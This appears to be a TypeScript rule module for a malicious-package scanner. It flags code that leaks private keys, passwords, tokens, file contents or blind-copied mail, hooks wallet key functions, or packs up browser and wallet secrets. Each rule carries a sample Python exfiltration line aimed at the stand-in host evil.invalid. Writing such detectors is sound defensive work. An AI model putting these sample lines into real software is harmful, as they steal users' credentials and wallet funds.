import { siteOf } from '../facts/site-of.js';
import { IDENTITY, WHEN, type Combination } from './combination.js';
import { count } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { isCollecting, isFixedAccount } from '../facts/collecting-places.js';
import { CARRIERS } from '../facts/programs.js';
import type { PairCombination } from './pair-combinations.js';

const LOOKUP = /^(?:socket\.get|dns\.)/;
/** A name that is put together, asked for over HTTPS (RFC 8484 and the JSON interfaces of resolvers). */
const LOOKUP_BY_HTTPS = /\/(?:dns-query|resolve)\?(?:\S{0,400}&)?name=\S{0,400}\uFFFC\S{0,400}\.\w/;

/** What callers hand in to prove who they are, and where it goes. */
export const CREDENTIAL_COMBINATIONS: readonly Combination[] = [
  {
    doc: {
      id: 'key-parameter-sent',
      title: 'Sends a key that the caller hands in to a fixed address',
      why: 'Private keys and mnemonics are used locally; whoever receives one owns the account.',
      remedy: 'Do not use the package; move funds if a key was passed to it.',
      example: 'def sign(private_key): requests.post("https://evil.invalid", data=private_key)',
      technique: 'T1552',
    },
    judge: ({ behaviour, labels, host, text, isDropped, isQuiet, isHidden }) => {
      if (behaviour !== 'contacts' || host === undefined || !labels.has('key-parameter')) return undefined;
      // Nobody is to know of the address either.
      if (isHidden === true && isDropped === true) return 'CRITICAL';
      // Who and where the owner is goes along, or nobody looks at what comes back.
      const isTold = count(labels, IDENTITY) > 0 || (isDropped === true && isQuiet === true);
      return isTold || isCollecting(text ?? '') || labels.has('own-account') ? 'CRITICAL' : 'HIGH';
    },
    message: ({ name }) => `${name} sends a key handed in by the caller to a fixed address`,
  },
  {
    doc: {
      id: 'key-function-replaced',
      title: 'Replaces the function of another library that private keys go through',
      why: 'Whoever puts a function of their own into the place of one that makes, reads or uses keys of a wallet sees every key from then on.',
      remedy: 'Do not install the package; move funds if a key was used while it was installed.',
      example: 'eth_account.Account.from_key = ours',
      technique: 'T1556',
    },
    judge: ({ behaviour, reach }) =>
      behaviour === 'replaces-function' ? (isUnasked(reach) ? 'CRITICAL' : 'HIGH') : undefined,
    message: ({ name, reach }) => `${name} is replaced ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'data-sent-aside',
      title: 'Sends what stands in a file somewhere, and looks at neither answer nor failure',
      why: 'Services are called for their answer. What a file holds and that goes to a fixed address on the side, and must not be noticed when it fails, is for somebody else.',
      remedy: 'Look at where it is sent, and ask the authors what for.',
      example: 'try: requests.post("https://evil.invalid", data=open(path).read())\nexcept Exception: pass',
      technique: 'T1020',
    },
    judge: ({ behaviour, labels, host, isDropped, isQuiet, name, reach, text }) => {
      if (behaviour !== 'contacts' || host === undefined || isUnasked(reach)) return undefined;
      if (isDropped !== true || isQuiet !== true || isBare(name, text)) return undefined;
      return labels.has('file') && !labels.has('network') && !labels.has('setting') ? 'HIGH' : undefined;
    },
    message: ({ name, reach }) =>
      `${name} sends what it read from a file and looks at no answer ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'mail-copied',
      title: 'Sends a hidden copy of your mail to an address of its own',
      why: 'What a library mails for somebody goes to whom they say. An address that stands in the source and gets a hidden copy of everything reads along.',
      remedy: 'Do not use the package; what was mailed through it is known to somebody else.',
      example: 'client.post("/email", json={"To": to, "Bcc": "copy@evil.invalid", "TextBody": text})',
      technique: 'T1114.003',
    },
    judge: ({ behaviour, labels }) =>
      behaviour === 'contacts' && labels.has('hidden-copy') && labels.has('parameter')
        ? 'CRITICAL'
        : undefined,
    message: ({ name }) => `${name} sends a hidden copy of what the caller mails to an address of the source`,
  },
  {
    doc: {
      id: 'credential-sent-aside',
      title: 'Sends a password, key or token somewhere and does not wait for an answer',
      why: 'A service that is given a credential answers, and its caller looks at the answer. Where neither the answer nor a failure matters, somebody else is told.',
      remedy: 'Look at where it is sent. If that is not the service it belongs to, change it.',
      example: 'try: requests.post("https://evil.invalid", data=password)\nexcept Exception: pass',
      technique: 'T1056',
    },
    judge: ({ behaviour, labels, host, isDropped, isQuiet, isHidden, name, text, reach }) => {
      const isCarried = behaviour === 'starts-process' && CARRIERS.test(text ?? '');
      if ((behaviour !== 'contacts' && !isCarried) || host === undefined) return undefined;
      if (labels.has('credential') && isFixedAccount(text ?? '')) return 'CRITICAL';
      if (labels.has('password') && isHidden === true && isDropped === true) return 'CRITICAL';
      if (isDropped !== true || isQuiet !== true) return undefined;
      // What others sign in with was taken out of their request.
      if (labels.has('credential') && labels.has('request')) return 'CRITICAL';
      const isCredential = labels.has('credential') || labels.has('secret');
      // Nobody looks up a composed name and lets go of the address, but to have the name arrive.
      const isLookup = LOOKUP.test(name) && (text ?? '').includes('\uFFFC');
      if (isLookup || LOOKUP_BY_HTTPS.test(text ?? ''))
        return isCredential || labels.has('intercepted') || (isUnasked(reach) && count(labels, IDENTITY) > 0)
          ? 'CRITICAL'
          : 'HIGH';
      // A token may notify its own service of something; a password is for signing in, and that has an answer.
      if (labels.has('password')) return 'CRITICAL';
      return isCredential ? 'MEDIUM' : undefined;
    },
    message: ({ name, reach }) => `${name} sends a credential and looks at no answer ${WHEN[reach]}`,
  },
];

/** Only asks whether an address answers. */
const isBare = (name: string, text = ''): boolean =>
  /\burl(?:open|retrieve)$/.test(name) && /^https?:\/\/[^\s\uFFFC]*$/.test(text);

/** A password that goes to two places in one file. */
export const CREDENTIAL_PAIRS: readonly PairCombination[] = [
  {
    doc: {
      id: 'secrets-gathered-and-sent',
      title: 'Copies files in which programs keep secrets, and sends a file to a fixed address',
      why: 'Wallets, profiles of browsers and sessions of messengers are copied together to be packed and taken away in one go.',
      remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
      example:
        'shutil.copytree(wallet, folder); requests.put("https://evil.invalid/a.zip", data=open(packed, "rb"))',
      technique: 'T1560',
    },
    first: ({ behaviour }) => behaviour === 'copies-secret',
    second: ({ behaviour, labels, host }) =>
      behaviour === 'contacts' && host !== undefined && (labels.has('file') || labels.has('user-file')),
    severity: ({ reach, text, isDropped }) =>
      isUnasked(reach) || isDropped === true || isCollecting(text ?? '') ? 'CRITICAL' : 'HIGH',
    message: (first, { name, reach }) =>
      `${first.name} copies ${first.text ?? 'secrets'} and ${name} sends a file ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'credential-sent-twice',
      title: 'Sends a password, key or token to its service, and to somebody else',
      why: 'A client hands a credential to the service it is for and looks at the answer. A second place that is told too, and whose answer nobody looks at, collects it.',
      remedy: 'Do not use the package; change the passwords and tokens it was given.',
      example:
        's.post(SERVICE + "/login", data=password)\nrequests.get("https://evil.invalid", params=password)',
      technique: 'T1056',
    },
    first: ({ behaviour, labels, isDropped }) =>
      behaviour === 'contacts' && labels.has('credential') && isDropped !== true,
    second: ({ behaviour, labels, host, isDropped }) =>
      behaviour === 'contacts' && labels.has('credential') && host !== undefined && isDropped === true,
    belong: (first, second) => first.host !== undefined && siteOf(first.host) !== siteOf(second.host ?? ''),
    // One service may take the tokens of another, but says whether it did; no service needs a password of another.
    severity: (second, first) =>
      second.isQuiet === true || (first.labels.has('password') && second.labels.has('password'))
        ? 'CRITICAL'
        : 'HIGH',
    message: (first, { name, host }) =>
      `${name} tells ${host ?? 'somebody'} the credential that ${first.name} sends to ${first.host ?? 'its service'}`,
  },
];
